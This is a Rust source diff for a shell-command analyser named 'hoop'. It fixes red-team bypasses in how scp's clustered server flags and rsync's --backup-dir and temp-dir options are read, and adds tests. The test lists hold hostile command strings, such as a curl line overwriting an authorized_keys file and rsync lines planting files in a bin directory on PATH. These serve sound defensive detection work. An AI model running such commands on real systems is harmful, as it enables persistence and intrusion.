@@ -560,11 +560,17 @@ impl Walker<'_> {
             self.find_exec(args);
             return;
         }
-        if p == "scp" && args.iter().any(|a| a == "-t" || a == "-f") {
-            let direction = if args.iter().any(|a| a == "-t") { "upload" } else { "download" };
-            let paths = args.iter().filter(|a| !a.starts_with('-')).map(|a| normalise(a)).collect();
-            self.r.transfer = Some(Transfer { protocol: "scp", direction, paths });
-            return;
+        if p == "scp" {
+            // Read as scp's own getopt reads it (red-team round 60: `scp -dt ~` put `-t` in a
+            // cluster, and hoop read a local copy while scp ran as the sink of a transfer).
+            match scp_server(args) {
+                Err(why) => return self.r.unreadable(&why),
+                Ok(Some((direction, paths))) => {
+                    self.r.transfer = Some(Transfer { protocol: "scp", direction, paths: paths.iter().map(|a| normalise(a)).collect() });
+                    return;
+                }
+                Ok(None) => {}
+            }
         }
         if p == "rsync" && args.iter().any(|a| a == "--server") {
             let direction = if args.iter().any(|a| a == "--sender") { "download" } else { "upload" };
@@ -1132,6 +1138,16 @@ fn names_at_run_time(program: &str, args: &[String]) -> Option<&'static str> {
         "cp" | "mv" | "install" | "ln" | "rsync" if has(&|a| short(a, &['b', 'S']) || long(a, "--backup") || long(a, "--suffix")) => {
             Some("makes backup names at run time (a suffix added to a path)")
         }
+        // A directory named beside the paths: backups go there (`--backup-dir` alone implies
+        // `--backup`), and temporary or partial files, or files linked or copied from one
+        // (red-team round 60: `--backup-dir=~/bin` planted an `id` first on PATH).
+        "rsync"
+            if has(&|a| {
+                ["--backup-dir", "--temp-dir", "--partial-dir", "--link-dest", "--copy-dest", "--compare-dest"].iter().any(|o| long(a, o)) || short_given(a, &['T'], "eBfM@")
+            }) =>
+        {
+            Some("puts files in a directory it names beside its paths (backups, temporary or partial files), or links them from one")
+        }
         "gzip" | "gunzip" | "zcat" | "xz" | "unxz" | "lzma" | "unlzma" | "zstd" | "unzstd" | "pigz" | "unpigz" | "lz4" | "lzip"
             if has(&|a| short(a, &['S']) || long(a, "--suffix")) =>
         {
@@ -1340,7 +1356,7 @@ fn runs_code(program: &str, args: &[String]) -> Option<&'static str> {
         }
         "unzip" | "cpio" | "7z" | "7za" | "ar" | "pax" => Some("it writes files named inside an archive"),
         // (The server end of a transfer is a transfer, judged by its paths.)
-        "cp" | "rsync" | "scp" if recursive && !has(&|a| a == "--server" || a == "-t" || a == "-f") => {
+        "cp" | "rsync" | "scp" if recursive && !has(&|a| a == "--server") && !(program == "scp" && scp_server(args).map_or(true, |s| s.is_some())) => {
             Some("a recursive copy writes files named in a tree, not on the command line")
         }
         "pip" | "pip3" | "pipx" | "gem" | "cargo" | "go" if has(&|a| matches!(a, "install" | "run" | "build" | "test" | "exec" | "download" | "wheel")) => {
@@ -1399,7 +1415,7 @@ fn runs_code(program: &str, args: &[String]) -> Option<&'static str> {
         // A copy to or from another host (`scp f user@host:`, `rsync -e ssh f host:d`), not the
         // server end of a transfer hoop reads.
         // (`tar -cf host:/x` writes its archive through rmt on another host.)
-        "scp" | "rsync" | "tar" if (program == "tar" || !has(&|a| a == "--server" || a == "-t" || a == "-f")) && has(&|a| a.trim_start_matches("-f").trim_start_matches('-').split_once(':').is_some_and(|(h, _)| !h.is_empty() && !h.contains(['/', '=']))) => {
+        "scp" | "rsync" | "tar" if (program == "tar" || !(has(&|a| a == "--server") || (program == "scp" && scp_server(args).map_or(true, |s| s.is_some())))) && has(&|a| a.trim_start_matches("-f").trim_start_matches('-').split_once(':').is_some_and(|(h, _)| !h.is_empty() && !h.contains(['/', '=']))) => {
             Some("it copies files to or from another host, which masking does not see")
         }
         // A daemon runs the commands of its configuration (`pre-xfer exec`), and stays listening.
@@ -1550,6 +1566,33 @@ struct SedArgs<'a> {
     scripts: Vec<&'a str>,
     from_file: bool,
     backup_suffix: bool,
+}
+
+/// Whether scp runs as the server end of a transfer (`-t`: the sink, an upload; `-f`: the
+/// source, a download), with its paths, as OpenSSH scp's getopt reads its options (BSD getopt,
+/// `12346ABCTdfOpqRrstvD:F:J:M:P:S:c:i:l:o:X:`: up to the first operand, letters in clusters);
+/// `Err` when scp itself would not read them.
+fn scp_server(args: &[String]) -> Result<Option<(&'static str, Vec<&str>)>, String> {
+    use super::getopt::{Arity::*, Spec};
+    const SCP: Spec = Spec {
+        short: &[
+            ('1', No), ('2', No), ('3', No), ('4', No), ('6', No), ('A', No), ('B', No), ('C', No), ('T', No), ('d', No), ('f', No), ('O', No),
+            ('p', No), ('q', No), ('R', No), ('r', No), ('s', No), ('t', No), ('v', No), ('D', Required), ('F', Required), ('J', Required),
+            ('M', Required), ('P', Required), ('S', Required), ('c', Required), ('i', Required), ('l', Required), ('o', Required), ('X', Required),
+        ],
+        long: &[],
+        stop_at_operand: true,
+    };
+    let parsed = super::getopt::parse(&SCP, args).map_err(|e| format!("scp: {e}"))?;
+    // (With both, scp.c runs as the source: `if (fflag)` comes first.)
+    let mode = if parsed.has('f', "") {
+        Some("download")
+    } else if parsed.has('t', "") {
+        Some("upload")
+    } else {
+        None
+    };
+    Ok(mode.map(|m| (m, parsed.operands.clone())))
 }
 
 fn sed_args(args: &[String]) -> Result<SedArgs<'_>, String> {
@@ -2194,6 +2237,11 @@ mod tests {
             "curl -s 'file:///tmp/{.ss}h/../ak' -o '/home/web/#1h/authorized_keys'",
             "curl -o '/home/web/#1rc' 'http://x/[1-2]'",
             "curl -K /tmp/cfg",
+            // Round 60: rsync's directories beside its paths.
+            "rsync --backup-dir=/home/web/bin /etc/hostname /tmp/id",
+            "rsync -T /home/web/bin a b",
+            "rsync --temp-dir=/home/web/bin a b",
+            "rsync --link-dest=/home/web a b",
             // Round 45: sed's backup suffix, in every spelling getopt takes.
             "sed -i'rc' '' /home/web/.bash",
             "sed -irc '' /home/web/.bash",
@@ -2333,6 +2381,13 @@ mod tests {
         let t = read_line("'scp' -f /etc/../srv/x").transfer.unwrap();
         assert_eq!((t.protocol, t.direction, t.paths.as_slice()), ("scp", "download", ["/srv/x".to_string()].as_slice()));
         assert!(read_line("true; rsync --server --sender . x").transfer.is_none());
+        // Round 60: scp's server modes in a short-option cluster, as its getopt reads them.
+        for (line, direction, path) in [("scp -dt /home/u", "upload", "/home/u"), ("scp -qdt -- /tmp", "upload", "/tmp"), ("scp -pf .env", "download", ".env"), ("scp -vtf x", "download", "x")] {
+            let t = read_line(line).transfer.unwrap_or_else(|| panic!("{line}: a transfer"));
+            assert_eq!((t.direction, t.paths.as_slice()), (direction, [path.to_string()].as_slice()), "{line}");
+        }
+        assert!(!read_line("scp -Z x").unreadable.is_empty(), "a letter scp does not take");
+        assert!(read_line("scp -P 22 a b").transfer.is_none(), "a local copy");
     }
 
     #[test]
